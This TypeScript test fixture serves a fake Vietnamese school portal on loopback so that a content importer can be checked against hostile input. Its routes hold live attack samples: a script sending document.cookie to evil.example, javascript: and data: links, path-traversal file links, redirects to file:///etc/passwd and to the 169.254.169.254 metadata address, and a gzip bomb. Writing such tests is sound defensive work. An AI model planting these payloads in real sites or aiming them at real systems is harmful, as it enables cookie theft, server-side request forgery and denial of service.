/**
 * A hostile old portal on a loopback port, in the markup of the hcm.edu.vn-style
 * portals (`.qicontentdetail`, `.qi-nhom-ngaydoc`, `/ct/<n>/<n>` and `/c/<n>`): every
 * route is one trick a real broken or hostile site plays on an importer. A second
 * loopback server, the canary, stands for anything the import must never reach
 * (another host, a private address); it only counts the requests it gets.
 */
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { gzipSync } from 'node:zlib';
import sharp from 'sharp';

export interface HostileServer {
  url: string;
  canary: string;
  /** The portal's own file server on another origin (as hcm.edu.vn keeps files on file*.hcm.shieldix.app). */
  files: string;
  /** Requests the canary received (must stay empty). */
  canaryHits: string[];
  requests: string[];
  close: () => Promise<void>;
}

const TONES = /[\u0300\u0301\u0303\u0309\u0323]/g;

/**
 * Text in windows-1258, as older ASP.NET portals stored it: letters with ă â ê ô ơ ư đ
 * are single bytes, tone marks are combining bytes after them ("Hòa" = H o 0xCC a).
 */
export function windows1258(text: string): Buffer {
  const decoder = new TextDecoder('windows-1258');
  const byChar = new Map<string, number>();
  for (let b = 0; b < 256; b++) byChar.set(decoder.decode(Uint8Array.of(b)), b);
  const out: number[] = [];
  for (const ch of text.normalize('NFC')) {
    const whole = byChar.get(ch);
    if (whole !== undefined) {
      out.push(whole);
      continue;
    }
    const parts = ch.normalize('NFD');
    const base = parts.replace(TONES, '').normalize('NFC');
    for (const c of [base, ...(parts.match(TONES) ?? [])]) {
      const b = byChar.get(c);
      if (b === undefined) throw new Error(`"${ch}" has no windows-1258 form`);
      out.push(b);
    }
  }
  return Buffer.from(out);
}

export const LONG_NAME = `${'bien-ban-hop-hoi-dong-truong-'.repeat(12)}.pdf`;

export const ARTICLE_PATHS = {
  unsafe: '/tin-tuc-su-kien/hoat-dong/ngay-hoi-stem-cua-lien-doi/ct/45/2001',
  files: '/van-ban-cong-van/van-ban-truong/ke-hoach-ngay-hoi-doc-sach/ct/50/2002',
  legacy: '/tin-tuc-su-kien/hoat-dong/giai-bong-da-hoa-binh/ct/45/2003',
  lyingCharset: '/tin-tuc-su-kien/hoat-dong/hoi-thi-ke-chuyen-theo-sach/ct/45/2004',
  notHtml: '/tin-tuc-su-kien/hoat-dong/anh-that-ra-la-png/ct/45/2005',
};

function page(title: string, body: string, head = ''): string {
  return `<!DOCTYPE html><html lang="vi"><head><meta charset="utf-8"><title>${title} | Trường THCS An Phú</title>
<meta property="og:title" content="${title}">${head}<script src="/Js/portal.min.js"></script></head>
<body><div id="header"><span class="today">Thứ Hai, 07/12/2026</span></div>
<div id="menu"><a href="/">Trang chủ</a> <a href="/tin-tuc-su-kien/c/45">Tin tức - Sự kiện</a></div>
<aside class="content">
<h1 class="line-322 heading_title"><a class="fs-30" title="${title}" href="">${title}</a></h1>
<div class="action_bar_news"><article class="d-flex qi-nhom-ngaydoc"><span class="color_gray fs-15">Thứ Tư, 18/10/2023, 09:47   , Lượt đọc : 215</span>
<span class="qi-nut-chiase"><img src="/Images/share1.png" alt="Chia sẻ tin bài" onclick="openModal2('2001')"></span></article>
<article class="action_button_change tool1"><a id="tangtuongphan" href="javascript:;">Tăng tương phản</a></article></div>
<div class="content_page">${body}</div>
<div class="text-end"><div class="p-2 qiauthor">Tác giả: Tổ Văn phòng</div><div class="p-2 qinguontin">Nguồn tin: THCS An Phú</div></div>
</aside>
<div class="mr-3 tinlienquan"><p class="qitieudetincungchuyenmuc">Tin cùng chuyên mục</p><a href="/tin-tuc-su-kien/c/45">Xem thêm</a></div>
<div id="footer"><p>TRƯỜNG THCS AN PHÚ - 25 đường Song Hành, phường An Phú, TP. Hồ Chí Minh</p></div></body></html>`;
}

const PROSE =
  '<p>Sáng 17/10/2023, Liên đội Trường THCS An Phú tổ chức Ngày hội STEM với 24 gian trưng bày của các chi đội. Học sinh khối 8 và khối 9 giới thiệu mô hình tưới cây tự động, xe chạy bằng năng lượng mặt trời và hệ thống báo cháy mini.</p>';

function routes(
  files: string,
  canary: string,
  origin: string,
  png: Buffer,
  svgAsJpg: Buffer,
): Record<string, (res: ServerResponse) => void> {
  const html =
    (body: string, type = 'text/html; charset=utf-8') =>
    (res: ServerResponse) =>
      void res.writeHead(200, { 'content-type': type }).end(body);
  const redirect = (location: string) => (res: ServerResponse) => void res.writeHead(302, { location }).end();
  const bytes = (body: Buffer, type: string) => (res: ServerResponse) =>
    void res.writeHead(200, { 'content-type': type }).end(body);
  const port = new URL(origin).port;
  return {
    '/robots.txt': bytes(Buffer.from('User-agent: *\nDisallow:\n'), 'text/plain'),
    '/': html(
      page(
        'Trang chủ',
        [
          ...Object.values(ARTICLE_PATHS),
          '/chuyen-huong/may-khac',
          '/chuyen-huong/localhost',
          '/chuyen-huong/tep',
          '/chuyen-huong/data',
          '/chuyen-huong/javascript',
          '/chuyen-huong/dia-chi-noi-bo',
          '/vong/a',
          '/cham',
          '/treo',
          '/lon',
          '/bom-nen',
          '/rss',
          '/dang-nhap.aspx',
          '/tin-tuc-su-kien/c/45',
        ]
          .map((href) => `<p><a href="${href}">${href}</a></p>`)
          .join(''),
      ),
    ),
    [ARTICLE_PATHS.unsafe]: html(
      page(
        'Ngày hội STEM của Liên đội',
        `<div class="qicontentdetail">${PROSE}
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
<p onclick="steal()" onmouseover="steal()">Các đội thi được chấm theo ba tiêu chí: ý tưởng, tính ứng dụng và phần thuyết trình của học sinh.</p>
<p><a href="javascript:alert(1)">Xem kết quả</a> · <a href="vbscript:msgbox(1)">Bản in</a> · <a href="java&#x09;script:alert(2)">Tải ảnh</a> · <a href="data:text/html,&lt;script&gt;alert(3)&lt;/script&gt;">Danh sách</a></p>
<iframe src="https://evil.example/frame"></iframe>
<svg width="10" height="10"><script>alert(4)</script><circle r="4"/></svg>
<div style="text-align:center"><img class="anhnoidung" title="Nhấn vào ảnh để phóng to" onclick="openModal(this)" src="/UploadImages/news/2023/ngay-hoi-stem.jpg?w=1130" srcset="https://tracker.example/anh-2x.jpg 2x" alt=""></div>
<p><em>Mô hình tưới cây tự động của chi đội 8A3</em></p>
<p>Xem thêm <a href="/tin-tuc-su-kien/c/45">các tin hoạt động khác</a>.</p></div>`,
        '<base href="https://evil.example/">',
      ),
    ),
    [ARTICLE_PATHS.files]: html(
      page(
        'Kế hoạch tổ chức Ngày hội đọc sách năm học 2023-2024',
        `<div class="qicontentdetail"><p>Số: 52/KH-THCSAP ngày 02/10/2023 của Hiệu trưởng Trường THCS An Phú về việc tổ chức Ngày hội đọc sách năm học 2023-2024 cho học sinh toàn trường, hưởng ứng Ngày Sách và Văn hóa đọc Việt Nam.</p></div>
<div class="qifile"><div class="qi-tep-dinhkem">
<a href="/Upload/vanban/ke-hoach-doc-sach.pdf">Tải file : ke-hoach-doc-sach.pdf</a>
<a href="/Upload/..%2F..%2F..%2Fetc%2Fpasswd.pdf">Phụ lục 1</a>
<a href="/Upload/%2e%2e/%2e%2e/bi-mat.pdf">Phụ lục 2</a>
<a href="/Upload/vanban/phu-luc%5C..%5C..%5Cwin.pdf">Phụ lục 3</a>
<a href="/Upload/vanban/phu-luc%00.pdf">Phụ lục 4</a>
<a href="/Upload/vanban/${LONG_NAME}">Phụ lục 5</a>
<a href="/Upload/vanban/trang-loi.pdf">Phụ lục 6</a>
<a href="/Upload/vanban/danh-sach.docx">Phụ lục 7</a>
<a href="/Upload/vanban/bang-diem.rtf">Phụ lục 8</a>
<a href="https://filethcs.example.invalid/data/doc/2023/thcsanphu/ke-hoach-goc.pdf">Tải file : ke-hoach-goc.pdf</a>
<a href="${files}/data/doc/2023/thcsanphu/danh-sach-lop-doc.pdf">Tải file : danh-sach-lop-doc.pdf</a>
</div></div>
<div class="qicontentdetail"><p><img src="/Upload/anh/bia-sach.jpg" alt="Bìa sách của học sinh lớp 6A1"> <img src="/Upload/anh/logo-doan.jpg" alt="Huy hiệu Đoàn"> <img src="/Upload/anh/so-do.svg" alt="Sơ đồ các gian sách"></p></div>`,
      ),
    ),
    // Served as text/plain, its meta says utf-8: only the HTTP header's charset is true.
    [ARTICLE_PATHS.legacy]: bytes(
      windows1258(
        page(
          'Giải bóng đá học sinh',
          '<div class="qicontentdetail"><p>Đội bóng lớp 9A2 vô địch giải bóng đá học sinh Trường THCS An Phú năm học 2023-2024 sau trận chung kết với lớp 8A1. Cúp được trao tại sân trường phường An Phú.</p><p>Cầu thủ xuất sắc nhất: em Nguyễn Văn Hòa, lớp 9A2.</p></div>',
        ),
      ),
      'text/plain; charset=windows-1258',
    ),
    [ARTICLE_PATHS.lyingCharset]: html(
      page(
        'Hội thi kể chuyện theo sách',
        `<div class="qicontentdetail"><p>Hội thi kể chuyện theo sách năm học 2023-2024 thu hút 36 học sinh khối 6 và khối 7 tham gia. Ban giám khảo gồm các thầy cô tổ Ngữ văn và cán bộ thư viện Sở GD&amp;ĐT.</p><p>Giải nhất thuộc về em Phạm Thị Hòa, lớp 7A3.</p></div>`,
        '<meta http-equiv="Content-Type" content="text/html; charset=windows-1258">',
      ),
      'text/html; charset=windows-1258',
    ),
    [ARTICLE_PATHS.notHtml]: bytes(png, 'text/html; charset=utf-8'),
    '/chuyen-huong/may-khac': redirect(`${canary}/bi-mat`),
    '/chuyen-huong/localhost': redirect(`http://localhost:${port}${ARTICLE_PATHS.unsafe}`),
    '/chuyen-huong/tep': redirect('file:///etc/passwd'),
    '/chuyen-huong/data': redirect('data:text/html,<script>alert(1)</script>'),
    '/chuyen-huong/javascript': redirect('javascript:alert(1)'),
    '/chuyen-huong/dia-chi-noi-bo': redirect('http://169.254.169.254/latest/meta-data/'),
    '/vong/a': redirect('/vong/b'),
    '/vong/b': redirect(`${origin}/vong/a`),
    '/cham': (res) => {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      const drip = setInterval(() => (res.destroyed ? clearInterval(drip) : res.write('<p>.</p>')), 100);
      res.on('close', () => clearInterval(drip));
    },
    '/treo': (res) => void res.writeHead(200, { 'content-type': 'text/html' }).write('<!DOCTYPE html><html>'),
    '/lon': (res) => {
      res.writeHead(200, { 'content-type': 'text/html' });
      const chunk = `<p>${'Sở GD&amp;ĐT '.repeat(500)}</p>`;
      for (let i = 0; i < 200; i++) res.write(chunk);
      res.end();
    },
    '/bom-nen': bytes(gzipSync(Buffer.alloc(40 * 1024 * 1024, 0x20)), 'text/html'),
    '/rss': bytes(
      Buffer.from(
        `<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Tin tức</title><link>${origin}/</link><item><title>Ngày hội STEM</title><link>${origin}${ARTICLE_PATHS.unsafe}</link></item></channel></rss>`,
      ),
      'application/rss+xml',
    ),
    '/dang-nhap.aspx': html(
      page('Đăng nhập hệ thống', '<form method="post"><input name="u"><input type="password" name="p"></form>'),
    ),
    '/tin-tuc-su-kien/c/45': html(
      page(
        'Tin tức - Sự kiện',
        Array.from({ length: 3000 }, (_, i) => `<a href="/tin-tuc-su-kien/c/45?trang=${i + 2}">${i + 2}</a>`).join(' '),
      ),
    ),
    '/UploadImages/news/2023/ngay-hoi-stem.jpg': bytes(png, 'image/jpeg'),
    '/Upload/anh/bia-sach.jpg': bytes(png, 'image/jpeg'),
    '/Upload/anh/logo-doan.jpg': bytes(svgAsJpg, 'image/jpeg'),
    '/Upload/anh/so-do.svg': bytes(svgAsJpg, 'image/svg+xml'),
    '/Upload/vanban/ke-hoach-doc-sach.pdf': bytes(
      Buffer.from('%PDF-1.4\n%âãÏÓ\n1 0 obj<<>>endobj\n%%EOF\n'),
      'application/pdf',
    ),
    '/Upload/vanban/trang-loi.pdf': html(page('Lỗi 404', '<p>Không tìm thấy tệp</p>'), 'application/pdf'),
    '/Upload/vanban/danh-sach.docx': bytes(Buffer.from('MZ\x90\x00\x03\x00\x00\x00'), 'application/octet-stream'),
    '/Upload/vanban/bang-diem.rtf': bytes(Buffer.from('<script>alert(1)</script>'), 'application/rtf'),
  };
}

async function listen(server: Server): Promise<string> {
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const address = server.address();
  return `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
}

export async function serveHostile(): Promise<HostileServer> {
  const canaryHits: string[] = [];
  const canaryServer = createServer((req, res) => {
    canaryHits.push(req.url ?? '');
    res.writeHead(200, { 'content-type': 'text/html' }).end('<!DOCTYPE html><title>bí mật</title><p>root:x:0:0</p>');
  });
  const canary = await listen(canaryServer);
  const filesServer = createServer((req, res) => {
    if (req.url === '/data/doc/2023/thcsanphu/danh-sach-lop-doc.pdf')
      return void res.writeHead(200, { 'content-type': 'application/pdf' }).end('%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF\n');
    res.writeHead(404, { 'content-type': 'text/html' }).end('<!DOCTYPE html><title>404</title>');
  });
  const files = await listen(filesServer);
  const png = await sharp({ create: { width: 640, height: 480, channels: 3, background: { r: 30, g: 120, b: 60 } } })
    .png()
    .toBuffer();
  const svgAsJpg = Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><script>alert(document.domain)</script><rect width="64" height="64" fill="red"/></svg>',
  );
  const requests: string[] = [];
  let table: ReturnType<typeof routes> = {};
  const sockets = new Set<import('node:net').Socket>();
  const server = createServer((req: IncomingMessage, res: ServerResponse) => {
    requests.push(req.url ?? '/');
    // A query the portal ignores (`?trang=2` of a list, `?w=1130` of a photo) answers as the address without it.
    const route = table[req.url ?? '/'] ?? table[new URL(req.url ?? '/', 'http://x').pathname];
    table[req.url ?? '/'] ??
      (/^\/tin-tuc-su-kien\/c\/45\?trang=\d+$/.test(req.url ?? '') ? table['/tin-tuc-su-kien/c/45'] : undefined);
    if (!route)
      return void res.writeHead(404, { 'content-type': 'text/html' }).end('<!DOCTYPE html><title>404</title>');
    route(res);
  });
  server.on('connection', (socket) => (sockets.add(socket), socket.on('close', () => sockets.delete(socket))));
  const url = await listen(server);
  table = routes(files, canary, url, png, svgAsJpg);
  // The gzip bomb is served compressed, as a hostile server would.
  const bomb = table['/bom-nen']!;
  table['/bom-nen'] = (res) => {
    const original = res.writeHead.bind(res);
    res.writeHead = ((status: number, headers: Record<string, string>) =>
      original(status, { ...headers, 'content-encoding': 'gzip' })) as typeof res.writeHead;
    bomb(res);
  };
  return {
    url,
    canary,
    files,
    canaryHits,
    requests,
    close: async () => {
      for (const socket of sockets) socket.destroy();
      await Promise.all([
        new Promise((done) => server.close(() => done(undefined))),
        new Promise((done) => canaryServer.close(() => done(undefined))),
        new Promise((done) => filesServer.close(() => done(undefined))),
      ]);
    },
  };
}
